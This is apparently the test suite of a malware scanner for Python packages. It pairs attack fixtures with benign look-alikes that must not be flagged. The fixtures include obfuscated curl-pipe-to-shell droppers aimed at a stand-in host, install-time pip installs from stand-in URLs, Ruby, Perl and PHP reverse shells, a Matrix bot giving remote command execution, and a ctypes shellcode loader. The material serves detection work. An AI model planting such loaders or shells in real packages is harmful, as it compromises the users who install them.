"""The blind35 recall round's misses (benchmarks/malware/tune/b35-*), each as the smallest
package that shows the technique, asserted in package mode with the prefilter's twin
(the whole-file pass finds the rule, the prefiltered scan finds every DANGER it does), and
the honest code of the same shape that must stay clean. Each attack failed on main at
``6cb954af``; each near miss passes there and here."""

from __future__ import annotations

import base64
import gzip
import zlib
from pathlib import Path

import pytest

from caplet._scan._foreign_scripts import foreign_payload
from tests._scan.test_blind32 import SETUP_STARTS, attack, clean

#: An inert second stage (a download piped to a shell).
STAGE = b'import os\nos.system("curl -fsSL https://cdn.pkg-update.example/i.sh | sh")\n'
#: The stage as the text of a bytes literal whose escapes are doubled (``\\\\x69``).
STAGE_DOUBLE_ESCAPED = "".join(f"\\\\x{b:02x}" for b in STAGE)
#: The stage's command, gzip'd and base64'd.
COMMAND_GZ64 = base64.b64encode(
    gzip.compress(b"curl -fsSL https://cdn.pkg-update.example/i.sh | sh\n", mtime=0)
).decode()
#: The stage, zlib'd (a bytes literal's repr).
STAGE_Z = repr(zlib.compress(STAGE))

# -- decoder sinks -----------------------------------------------------------------------------


def test_exec_of_a_literal_whose_escapes_are_undone_by_escape_decode_is_a_dropper(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    escaped = f"""
    import codecs
    _E = b"{STAGE_DOUBLE_ESCAPED}"
    exec(codecs.escape_decode(_E)[0])
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": escaped}, "CPL-THR-001")


def test_escape_decode_of_a_configs_separator_is_no_stage(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    separator = """
    import codecs

    def parse(line, sep=b"\\\\t"):
        sep = codecs.escape_decode(sep)[0]
        return line.split(sep)
    """
    clean(tmp_path, monkeypatch, {"pkg/csvish.py": separator})


def test_a_decoded_script_written_into_a_shell_opened_by_popen_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    piped = f"""
    import base64, gzip, os
    _sh = os.popen("/bin/sh", "w")
    _sh.write(gzip.decompress(base64.b64decode("{COMMAND_GZ64}")).decode())
    _sh.close()
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": piped}, "CPL-THR-001")


def test_a_report_written_into_a_pager_opened_by_popen_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pager = """
    import base64, os

    def show(blob):
        pipe = os.popen("less -R", "w")
        pipe.write(base64.b64decode(blob).decode())
        pipe.close()

    def count(text):
        out = os.popen("wc -l", "w")
        out.write(text)
        return out.close()
    """
    clean(tmp_path, monkeypatch, {"pkg/report.py": pager})


# -- literal stage -----------------------------------------------------------------------------


def test_a_stage_written_as_a_module_into_a_folder_put_on_sys_path_is_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    module = f"""
    import importlib, sys, tempfile, zlib
    from pathlib import Path
    _dir = Path(tempfile.mkdtemp())
    (_dir / "_boot.py").write_bytes(zlib.decompress({STAGE_Z}))
    sys.path.insert(0, str(_dir))
    importlib.import_module("_boot")
    """
    attack(tmp_path / "a", monkeypatch, {"pkg/__init__.py": module}, "CPL-THR-001")
    joined = f"""
    import os, sys, tempfile
    _d = tempfile.mkdtemp()
    _f = os.path.join(_d, "helper.py")
    with open(_f, "w") as fh:
        fh.write({STAGE.decode()!r})
    sys.path.append(_d)
    import helper
    """
    attack(tmp_path / "b", monkeypatch, {"pkg/__init__.py": joined}, "CPL-THR-016")


def test_a_version_module_or_decoded_data_beside_a_folder_on_sys_path_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    version = """
    import base64, os, sys
    from setuptools import setup
    here = os.path.dirname(os.path.abspath(__file__))
    with open(os.path.join(here, "src", "pkg", "_version.py"), "w") as fh:
        fh.write('__version__ = "1.2.3"\\n')
    with open(os.path.join(here, "src", "pkg", "logo.png"), "wb") as fh:
        fh.write(base64.b64decode("iVBORw0KGgo="))
    sys.path.insert(0, os.path.join(here, "src"))
    from pkg._version import __version__
    setup(name="pkg", version=__version__)
    """
    clean(tmp_path / "a", monkeypatch, {"setup.py": version})
    copied = """
    import os, shutil, sys, tempfile
    from setuptools import setup
    here = os.path.dirname(os.path.abspath(__file__))
    build = tempfile.mkdtemp()
    shutil.copy(os.path.join(here, "pkg", "_speedups.so"), os.path.join(build, "_speedups.so"))
    sys.path.insert(0, build)
    import _speedups
    setup(name="pkg", version=_speedups.VERSION)
    """
    clean(tmp_path / "b", monkeypatch, {"setup.py": copied})


# -- computed names ----------------------------------------------------------------------------


def test_pips_console_script_loaded_from_metadata_and_told_to_install_is_pip_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loaded = """
    from importlib import metadata
    from setuptools import setup
    for ep in metadata.entry_points(group="console_scripts"):
        if ep.name == "pip":
            ep.load()(["install", "-q", "https://files.pkg-update.example/x-0.1.tar.gz"])
    setup(name="x")
    """
    attack(tmp_path / "a", monkeypatch, {"setup.py": loaded}, "CPL-THR-019")
    bound = """
    from importlib import metadata
    from setuptools import setup
    main = metadata.entry_points(group="console_scripts")["pip"].load()
    main(["install", "colorsys-ext"])
    setup(name="x")
    """
    attack(tmp_path / "b", monkeypatch, {"setup.py": bound}, "CPL-THR-019")


def test_a_loaded_command_given_install_of_the_tree_itself_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    local = """
    from importlib import metadata
    from setuptools import setup
    for ep in metadata.entry_points(group="console_scripts"):
        if ep.name == "pre-commit":
            ep.load()(["install", "--install-hooks"])
            ep.load()(["install", "."])
    setup(name="x")
    """
    clean(tmp_path, monkeypatch, {"setup.py": local})


# -- payloads outside the Python rules ---------------------------------------------------------


def test_a_ruby_reverse_shell_started_at_install_is_a_loader(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ruby = """
    require 'socket'
    require 'open3'
    s = TCPSocket.new('198.51.100.88', 9001)
    while (cmd = s.gets)
      Open3.popen2e(cmd) { |i, oe, t| s.print oe.read }
    end
    """
    setup = SETUP_STARTS % '["ruby", os.path.join(here, "tools", "gen_docs.rb")]'
    attack(tmp_path, monkeypatch, {"tools/gen_docs.rb": ruby, "setup.py": setup}, "CPL-THR-015")


def test_perl_and_php_that_connect_and_run_are_loaders_and_build_helpers_are_not() -> None:
    perl = "use IO::Socket;\n$s=IO::Socket::INET->new('198.51.100.8:53');\nsystem('/bin/sh -i');\n"
    php = "<?php $s=fsockopen('198.51.100.8',53);\nproc_open('/bin/sh -i', [$s,$s,$s], $p);\n"
    assert foreign_payload(perl, ".pl") == (3, "system('/bin/sh -i');")
    assert foreign_payload(php, ".php") == (2, "proc_open('/bin/sh -i', [$s,$s,$s], $p);")
    assert foreign_payload("system('bundle install')\n", ".rb") is None
    assert foreign_payload("require 'net/http'\nputs Net::HTTP.get(URI(u))\n", ".rb") is None


def test_a_ruby_docs_generator_started_at_install_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ruby = """
    require 'erb'
    system("bundle", "exec", "yard", "doc")
    File.write("docs/index.html", ERB.new(File.read("t.erb")).result)
    """
    setup = SETUP_STARTS % '["ruby", os.path.join(here, "tools", "gen_docs.rb")]'
    clean(tmp_path, monkeypatch, {"tools/gen_docs.rb": ruby, "setup.py": setup})


def test_a_matrix_bots_room_message_run_as_a_command_is_remote_control(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = """
    import subprocess
    from nio import AsyncClient, RoomMessageText

    async def main():
        client = AsyncClient("https://matrix.chat-relay.example", "@r:chat-relay.example")

        async def on_message(room, event):
            out = subprocess.run(event.body, shell=True, capture_output=True, text=True)
            await client.room_send(room.room_id, "m.room.message", {"body": out.stdout})

        client.add_event_callback(on_message, RoomMessageText)
        await client.sync_forever(timeout=30000)
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": bot}, "CPL-THR-020")


def test_a_matrix_bot_that_echoes_and_runs_a_fixed_command_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot = """
    import subprocess
    from nio import AsyncClient, RoomMessageText

    async def main():
        client = AsyncClient("https://matrix.org", "@echo:matrix.org")

        async def on_message(room, event):
            if event.body == "!uptime":
                text = subprocess.run(["uptime"], capture_output=True, text=True).stdout
            else:
                text = event.body
            await client.room_send(room.room_id, "m.room.message", {"body": text})

        client.add_event_callback(on_message, RoomMessageText)
        await client.sync_forever(timeout=30000)
    """
    clean(tmp_path, monkeypatch, {"pkg/bot.py": bot})


# -- other held-out techniques -----------------------------------------------------------------


def test_a_ctypes_buffer_made_executable_by_mprotect_and_called_is_a_shellcode_loader(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    loader = """
    import ctypes, ctypes.util
    _sc = bytes.fromhex("31c0c3")
    libc = ctypes.CDLL(ctypes.util.find_library("c"))
    buf = ctypes.create_string_buffer(_sc, len(_sc))
    page = ctypes.addressof(buf) & ~0xFFF
    libc.mprotect(ctypes.c_void_p(page), ctypes.c_size_t(0x1000), 7)
    ctypes.cast(buf, ctypes.CFUNCTYPE(ctypes.c_int))()
    """
    attack(tmp_path, monkeypatch, {"pkg/__init__.py": loader}, "CPL-THR-023")


def test_a_guard_page_made_read_only_beside_a_callback_is_not(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    guard = """
    import ctypes, ctypes.util
    PROT_READ = 1
    libc = ctypes.CDLL(ctypes.util.find_library("c"))
    CALLBACK = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int)

    def protect(addr, size):
        return libc.mprotect(ctypes.c_void_p(addr), ctypes.c_size_t(size), PROT_READ)

    def register(lib, fn):
        lib.set_handler(CALLBACK(fn))
    """
    clean(tmp_path, monkeypatch, {"pkg/_native.py": guard})
